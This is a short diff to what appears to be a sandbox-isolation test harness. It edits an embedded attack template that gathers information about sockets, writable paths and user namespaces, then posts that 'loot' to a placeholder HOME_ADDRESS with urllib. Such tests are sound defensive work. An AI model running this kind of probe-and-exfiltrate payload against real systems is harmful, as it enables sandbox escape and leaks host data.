@@ -82,8 +82,9 @@ try:
         loot.append(b"!!!" + ENGINE.encode())
 except OSError:
     pass
-kinds = {1000: "the sandbox's user", REAL_USER: "ourselves"}
-loot.append(b"as " + kinds.get(os.getuid(), "another user").encode())
+user = "ourselves" if os.getuid() == REAL_USER else "another user"
+user = user if os.readlink("/proc/self/ns/user") == "OUR_SPACE" else "the sandbox's user"
+loot.append(f"as {user}".encode())
 urllib.request.urlopen(HOME_ADDRESS, data=b"\n".join(loot)).read()
 """
 
@@ -148,6 +149,7 @@ def job(world: World, home: Home) -> Iterator[World]:
         }
         attack = (
             ATTACK.replace("REAL_USER", str(os.getuid()))
+            .replace("OUR_SPACE", str(Path("/proc/self/ns/user").readlink()))
             .replace("PLACES", repr([str(temp), str(commands), str(made.files)]))
             .replace("WRITABLE", repr([str(file) for file in files.values()]))
             .replace("ENGINE", repr(f"{name}/engine.sock"))
